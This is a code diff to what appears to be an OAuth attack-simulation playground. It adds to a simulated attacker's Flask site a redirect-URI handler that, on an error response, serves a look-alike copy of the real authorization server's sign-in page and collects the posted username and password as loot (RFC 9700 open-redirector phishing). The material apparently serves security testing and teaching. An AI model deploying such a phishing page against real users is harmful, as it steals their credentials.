@@ -48,6 +48,35 @@ border:0;opacity:0;z-index:2}
 </div></body></html>"""
 
 
+# PhotoPrintz's redirect URI, `/callback`: a friendly page for a code; for an
+# error response, a copy of the real server's sign-in page (RFC 9700 4.11.2:
+# the authorization server as the phisher's open redirector).
+_PHOTOPRINTZ_PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8">
+<title>PhotoPrintz</title></head><body>
+<h1>PhotoPrintz</h1><p>Welcome back! Your prints are on their way.</p>
+</body></html>"""
+
+_LOOK_ALIKE_SIGN_IN = """<!doctype html>
+<html lang="en"><head><meta charset="utf-8">
+<title>Sign in - Playground Authorization Server</title></head>
+<body><div class="card" id="login">
+<h1>Sign in</h1>
+<p>Your session has expired. Sign in to <strong>{{ issuer }}</strong> to
+continue.</p>
+<form method="post" action="/sign-in" id="login-form">
+<p><label>Username <input name="username" autocomplete="username"></label></p>
+<p><label>Password <input name="password" type="password"
+ autocomplete="current-password"></label></p>
+<p><button type="submit">Sign in</button></p>
+</form>
+</div></body></html>"""
+
+_SIGNED_IN = """<!doctype html><html lang="en"><head><meta charset="utf-8">
+<title>Signed in - Playground Authorization Server</title></head><body>
+<h1>Thank you</h1><p>Your account is confirmed. You can close this tab.</p>
+</body></html>"""
+
+
 @dataclass(frozen=True)
 class Loot:
     """One thing that reached the attacker's site, and how it got there."""
@@ -63,6 +92,8 @@ class AttackerSite:
     """The attacker's web server: every request it gets is searched for loot."""
 
     loot: list[Loot] = field(default_factory=list)
+    # The real authorization server, whose sign-in page the site copies.
+    honest_issuer: str = "https://auth.photos.test"
     app: Flask = field(init=False)
 
     def __post_init__(self) -> None:
@@ -91,6 +122,22 @@ class AttackerSite:
             """`/frame?url=...`: the clickjacking page, framing `url` invisibly."""
             self._keep()
             return render_template_string(_FRAME_PAGE, url=request.args.get("url", ""))
+
+        @app.route("/callback", methods=["GET", "POST"])
+        def callback() -> str:
+            """PhotoPrintz's redirect URI (a registered client of Mallory's)."""
+            self._keep()
+            if "error" in request.args:
+                return render_template_string(
+                    _LOOK_ALIKE_SIGN_IN, issuer=self.honest_issuer
+                )
+            return _PHOTOPRINTZ_PAGE
+
+        @app.post("/sign-in")
+        def sign_in() -> str:
+            """Where the look-alike sign-in form posts: the password is loot."""
+            self._keep()
+            return _SIGNED_IN
 
         @app.route("/", defaults={"path": ""}, methods=["GET", "POST"])
         @app.route("/<path:path>", methods=["GET", "POST"])
@@ -153,7 +200,7 @@ class Attacker:
     def __init__(
         self, network: Network, issuer: str, api_url: str, clock: Clock | None = None
     ) -> None:
-        self.site = AttackerSite()
+        self.site = AttackerSite(honest_issuer=issuer)
         # Mallory's own authorization server (mix-up), routed by the world.
         self.authorization_server = MixUpAuthorizationServer(self.site, issuer)
         self.network = network
